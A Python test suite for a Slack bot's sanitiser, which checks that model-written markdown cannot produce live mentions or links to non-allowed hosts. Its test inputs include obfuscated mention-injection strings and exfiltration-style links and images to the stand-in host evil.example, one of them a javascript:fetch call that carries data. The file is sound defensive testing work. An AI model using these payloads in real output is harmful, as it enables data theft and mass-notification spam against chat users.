"""What a model writes reaches Slack readable and harmless."""

import html
import json
import os
import re
import time
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.views.blockcheck import check_post
from bot.views.text import SafeStream, escape, plain, safe_markdown

ALLOWED = frozenset({"ok.example"})
ROOT = Path(__file__).parents[2]
DATA = Path(os.environ.get("BATON_TEST_DATA") or ROOT.parent / "shared" / "data") / "adversarial"


def rows(name: str) -> list[object]:
    path = DATA / name
    if not path.is_file():
        return [pytest.param({}, marks=pytest.mark.skip(reason=f"no file {name}; name its folder by BATON_TEST_DATA"))]
    found = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    return [pytest.param(row, id=row["id"]) for row in found]


def as_read(text: str) -> str:
    """The text as the most lenient reader could see it: entities, full width and invisible characters resolved."""
    for _ in range(3):
        text = html.unescape(text)
    text = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", unicodedata.normalize("NFKC", text))
    return "".join(one for one in text if unicodedata.category(one) not in ("Cf", "Mn"))


def outside_fences(text: str) -> str:
    """Everything but the lines between fences of one indent, by the plainest reading."""
    kept: list[str] = []
    fence = indent = ""
    for line in text.split("\n"):
        mark = re.match(r"( *)(`{3,})[^`]*$|( {0,3})(~{3,})", line)
        if fence:
            if re.fullmatch(rf" {{0,{max(3, len(indent))}}}{fence}{fence[0]}*\s*", line):
                fence = ""
            elif line.strip() and not line.startswith(indent):
                kept.append(line)
        elif mark:
            indent, fence = mark[1] or mark[3] or "", mark[2] or mark[4]
        else:
            kept.append(line)
    return "\n".join(kept)


def without_code(text: str) -> str:
    text = re.sub(r"\\[\\`]", " ", text)
    return re.sub(r"(?<!`)(`+)(?!`)[^\n]*?(?<!`)\1(?!`)", " ", text)


LIVE_MENTION = re.compile(r"<((?i:!\s*(channel|here|everyone|group|subteam|date))|[@#][UWBCDG][A-Z0-9]{5,})")


def assert_harmless(shown: str) -> None:
    assert not LIVE_MENTION.search(as_read(shown)), shown
    prose = outside_fences(shown)
    assert not re.search(r"<[!@#]", as_read(without_code(prose))), shown
    for url in re.findall(r"[a-z][a-z0-9+.-]*://\w[^\s<>`)\]]*", as_read(prose), re.IGNORECASE):
        assert re.match(r"https?://ok\.example(?![\w.:@-])", url, re.IGNORECASE), (url, shown)
    assert not re.search(r"(?<!\\)!\[[^\]\n]*\](\(|\[)", without_code(prose)), shown


@pytest.mark.parametrize(
    "text",
    [
        "<!channel>",
        "<!here|here>",
        "<!everyone>",
        "<!subteam^S0123456789|@ops>",
        "<@U0123456789>",
        "<@W0123456789|eve>",
        "<#C0123456789|finance>",
        "<!date^1700000000^{date}^https://evil.example/|x>",
        "&lt;!channel&gt;",
        "&amp;lt;!channel&amp;gt;",
        "&#60;!channel&#62;",
        "&#x3c;&#33;channel&#x3E;",
        "<&#64;U0123456789>",
        "<\u200b!channel>",
        "<\u200d!channel>",
        "<!\u2060channel>",
        "<\ufeff@U0123456789>",
        "<！channel>",
        "＜!channel＞",
        "<\\!channel>",
        "\\<!channel>",
        "<!channel\n>",
        "<!CHANNEL>",
        "<[!channel](https://evil.example)>",
        "<[@U0123456789][r]>\n\n[r]: https://evil.example",
        "<![channel](https://evil.example)>",
        "&lt;[!here](#top)&gt;",
        "`<!channel>`",
        "```\n<!channel>\n```",
        "| a | <!here> |\n|---|---|\n| <@U0123456789> | b |",
        "# Title <!here>",
        "[<!channel>](https://ok.example/x)",
        "![<](x)!channel>",
        "https://ok.example/z&lt;!channel&gt;",
        "<![channel][r]\n\n[r]: https://ok.example/i.png",
        "[&lt](#x)!channel>",
        "[[[[[[<!channel>](a)](b)](c)](d)](e)](f)",
    ],
)
def test_no_disguise_makes_a_mention(text: str) -> None:
    shown = safe_markdown(text, ALLOWED)
    assert_harmless(shown)
    assert_harmless(streamed(text, 1))
    assert re.search(r"channel|here|everyone|U012|W012|C012|S012|date", shown, re.IGNORECASE), "the words stay readable"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[report](https://evil.example/?k=1)", "report (`evil.example`)"),
        ('[a](https://evil.example/y "title") b', "a (`evil.example`) b"),
        ("![chart](https://evil.example/i.png?k=1)", "chart"),
        ("![](https://evil.example/i.png)", "(image)"),
        ("[![alt](https://evil.example/i.png)](https://evil.example/p)", "alt (`evil.example`)"),
        ("![Hello][]\n\n[Hello]: https://evil.example/?d=1", "Hello\n\nHello: `evil.example/?d=1`"),
        (
            "[t][r] and [r]\n\n[r]: <https://evil.example/z>",
            "t (`evil.example`) and r (`evil.example`)\n\nr: `evil.example/z`",
        ),
        ("<https://evil.example/?k=1|the report>", "the report (`evil.example`)"),
        ("<https://evil.example|https://bank.example>", "`bank.example` (`evil.example`)"),
        ("<https://evil.example/k>", "`evil.example/k`"),
        ("See evil.example/k for more.", "See `evil.example/k` for more."),
        ("See www.evil.example.", "See `www.evil.example`."),
        ("https://k.evil.example/ it is", "`k.evil.example/` it is"),
        ("https://k@evil.example/", "`k@evil.example/`"),
        ("(https://evil.example/a(b)).", "(`evil.example/a(b)`)."),
        ("<mailto:eve@evil.example?body=k|mail us>", "mail us (`evil.example`)"),
        ("slack://channel?team=T0", "`slack:channel?team=T0`"),
        ("[link](javascript:fetch('https://evil.example/'+'k'))", "link (`javascript:`)"),
        ("https://ok.example/url?q=https://evil.example/k", "`ok.example/url?q=evil.example/k`"),
        ("https://ok.example:8443/x", "`ok.example:8443/x`"),
        ("https://ok.example.evil.example/x", "`ok.example.evil.example/x`"),
        ("`https://evil.example/k`", "`evil.example/k`"),
        ("![https](x)://evil.example/k", None),
        ("[https](#a)://evil.example/k", None),
        ("https\\://evil.example/k", None),
        ("https&#58;//evil.example/k", None),
        ("h\u200bttps://evil.example/k", None),
        ("`a\n[x](https://evil.example/k)`", None),
        ("\\`[x](https://evil.example/k)`", None),
        ("~~~\n```\n~~~\n[x](https://evil.example/k)\n```", None),
        ("- a\n  ```\n[x](https://evil.example/k)\n```\n[y](https://evil.example/l)\n```", None),
        ("- a\n  ```\n  code\n[x](https://evil.example/k)\n  ```\n[y](https://evil.example/l)", None),
        ("p\n     ```\n     c\n     ```\n[x](https://evil.example/k)\n```\n[y](https://evil.example/l)\n", None),
        ("[a\n    ```\n    c\n    ```\n](https://evil.example/k)", None),
        ("[```\nx](https://evil.example/a)\n\n```\n[y](https://evil.example/k)\n```", None),
        ("![~~~\nx](u)\n\n```\n~~~\n[y](https://evil.example/k)\n```", None),
        ("[~~~]: https://evil.example/a\n\n```\n~~~\n[y](https://evil.example/k)\n```", None),
        ("<pre>\n```\n</pre>\n[x](https://evil.example/k)\n```", None),
        ("\u200b```\n```\n[x](https://evil.example/k)", None),
        ("[x]: https://evil.example/k\n\n> [y]: https://evil.example/l\n\n[x] [y]", None),
    ],
)
def test_links_to_other_hosts_are_text(text: str, shown: str | None) -> None:
    assert_harmless(safe_markdown(text, ALLOWED))
    assert_harmless(streamed(text, 1))
    if shown is not None:
        assert safe_markdown(text, ALLOWED) == shown


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n\nSome **bold**, _italic_ and ~~struck~~ text; 3.5 % of a < b & c > d, e.g. this.\n\n- [x] done",
        "| Region | Share |\n|:--|--:|\n| North | 12.5 % |\n| South | 8 % |",
        "1. one\n2. two `code` and ``more ` code``\n\n> quoted [1] and [note]\n\n---",
        "See [the source](https://ok.example/a?b=c#d), <https://ok.example/x> and https://ok.example/y.",
        "[t][r]\n\n[r]: https://ok.example/z",
        "README.md, node.js and eve@other.example stay; so does 👩‍👩‍👧 and می‌خواهم",
        '```python\nrequest("https://api.example/v1")  # <T> & x[0](1)\n```\n',
        "- step\n\n  ```sh\n  curl https://api.example/v1 && os.path.join\n\n  # done\n  ```\n\n```\na.b.c\n```\n",
        "1. step\n   ```\n   x[0](1)\n   ```\n2. next",
        "````\n```\n[x](https://evil.example)\n```\n````\nafter",
    ],
)
def test_ordinary_markdown_stays_as_it_is(text: str) -> None:
    assert safe_markdown(text, ALLOWED) == text
    assert streamed(text, 3) == text


def streamed(text: str, step: int) -> str:
    stream = SafeStream(ALLOWED)
    shown = [stream.feed(text[at : at + step]) for at in range(0, len(text), step)]
    return "".join([*shown, stream.close()])


def test_a_pair_split_over_two_deltas_is_still_broken() -> None:
    stream = SafeStream()
    shown = stream.feed("Hello <") + stream.feed("!chan") + stream.feed("nel> and more ") + stream.close()
    assert shown == "Hello ‹!channel› and more "


def test_a_stream_shows_what_is_decided_at_once() -> None:
    stream = SafeStream()
    assert stream.feed("A long paragraph goes ") == "A long paragraph goes "
    assert stream.feed("on and ends [with a link") == "on and ends "
    assert stream.feed("](https://evil.example/k) here ") == "with a link (`evil.example`) here "


# fmt: off
ATOMS = st.sampled_from(list("<>!@#[]()`|\\:*é🧨\n\r\t \u200b\u200d")) | st.sampled_from(
    ["channel", "here", "U0123456", "``", "```", "``` py\n", "~~~", "\n\n", "    ", "- ", "1. ", "> ", "[r]: ", "[r]",
     "\r\n", "&lt;", "&gt;", "&amp;", "word", "a.b.c", "mailto:x@y.zz", "![", "](", "](x)", "<div>", "https", "://",
     "//", "https://evil.example/x", "https://ok.example/a", "www.evil.example", "evil.example/q",
     "<https://evil.example|l>"]
)
# fmt: on


@settings(max_examples=400, deadline=None)
@given(st.lists(ATOMS, max_size=40).map("".join))
def test_no_arrangement_of_marks_lets_anything_live_through(text: str) -> None:
    assert_harmless(safe_markdown(text, ALLOWED))


@settings(max_examples=200, deadline=None)
@given(st.lists(ATOMS, max_size=30).map("".join), st.integers(1, 7))
def test_a_stream_is_as_harmless_as_the_whole(text: str, step: int) -> None:
    assert_harmless(streamed(text, step))


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "word ",
                "a, b. ",
                "\n",
                "\n\n",
                "**bold** ",
                "`code` ",
                "[x](https://ok.example/p) ",
                "https://evil.example/k ",
                "<!here> ",
                "- item\n",
                "| a | b |\n",
                "```\nx y\n```\n",
            ]
        ),
        max_size=30,
    ).map("".join),
    st.integers(1, 9),
)
def test_a_stream_says_what_the_whole_text_says(text: str, step: int) -> None:
    assert streamed(text, step) == safe_markdown(text, ALLOWED)


@pytest.mark.parametrize("mark", ["[", "`", "``` `", "<", "&lt;", "![", "[a](", "](", "\\", "a.", "https:", "<!", "|`"])
def test_forty_thousand_hostile_characters_take_little_time(mark: str) -> None:
    text = (mark * 40_000)[:40_000]
    began = time.process_time()
    safe_markdown(text)
    assert time.process_time() - began < 5, "the work must grow with the text, not with its square"


@pytest.mark.parametrize("row", rows("mrkdwn_injection.jsonl"))
def test_hostile_mrkdwn_is_shown_and_nothing_more(row: dict[str, str]) -> None:
    assert_shown_safely(row["text"])


@pytest.mark.parametrize("row", rows("exfil_outputs.jsonl"))
def test_no_output_of_a_hijacked_model_leaves_a_link(row: dict[str, str]) -> None:
    assert_shown_safely(row["model_output"])


@pytest.mark.parametrize("row", rows("naughty_strings.jsonl"))
def test_naughty_strings_are_shown(row: dict[str, str]) -> None:
    assert_shown_safely(row["text"])


def assert_shown_safely(text: str) -> None:
    shown = safe_markdown(text)
    assert_harmless(shown)
    assert_harmless(streamed(text, 2))
    blocks = [
        {"type": "section", "text": {"type": "mrkdwn", "text": escape(text)[:3000] or "(empty)"}},
        {"type": "header", "text": {"type": "plain_text", "text": plain(text, 150)}},
    ]
    if shown.strip():
        blocks.append({"type": "markdown", "text": shown})
    payload = {"text": plain(text, 300), "blocks": blocks, "unfurl_links": False, "unfurl_media": False}
    assert check_post(payload) == []


def test_escaping_touches_three_characters_only() -> None:
    assert escape("a & b <!here> \"c\" 'd' *e*") == "a &amp; b &lt;!here&gt; \"c\" 'd' *e*"


def test_a_label_is_one_line_and_shows_its_cut() -> None:
    assert plain("Plan\n the  launch", 75) == "Plan the launch"
    assert plain("x" * 80, 75) == "x" * 74 + "…"
    assert plain(" \n ", 10) == "(empty)"


@given(st.text(), st.integers(1, 80))
def test_a_label_never_exceeds_its_limit_and_is_never_empty(text: str, limit: int) -> None:
    assert 0 < len(plain(text, limit)) <= limit or limit < len("(empty)")


def test_a_label_is_not_cut_inside_a_character() -> None:
    assert plain("ab👩\u200d👩\u200d👧 and more", 6) == "ab…"
